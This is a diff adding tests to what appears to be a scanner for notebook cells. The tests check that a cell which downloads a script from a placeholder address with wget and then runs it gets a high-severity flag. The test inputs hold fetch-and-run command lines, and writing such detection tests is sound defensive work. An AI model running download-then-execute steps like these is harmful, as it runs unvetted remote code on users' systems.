@@ -119,3 +119,17 @@ describe('where a cell has packages looked up', () => {
     expect(await saidOf(`import requests\ne = {"a": 1}\n${send}`)).toEqual([]);
   });
 });
+
+describe('a file that a cell runs', () => {
+  const fetched = '!wget https://x.example.invalid/x.py\n';
+  it.each(['%run x.py', '%run -i x.py --epochs 3', '!python x.py'])(
+    'comes from an address: %s',
+    async (run) => {
+      expect(await saidOf(`${fetched}${run}`)).toEqual(['HIGH CODE-PIPE-SHELL']);
+    },
+  );
+
+  it.each(['%run other.py', '%run x.ipynb', '%run -i helpers/train.py'])('does not: %s', async (run) => {
+    expect(await saidOf(`${fetched}${run}`)).toEqual([]);
+  });
+});
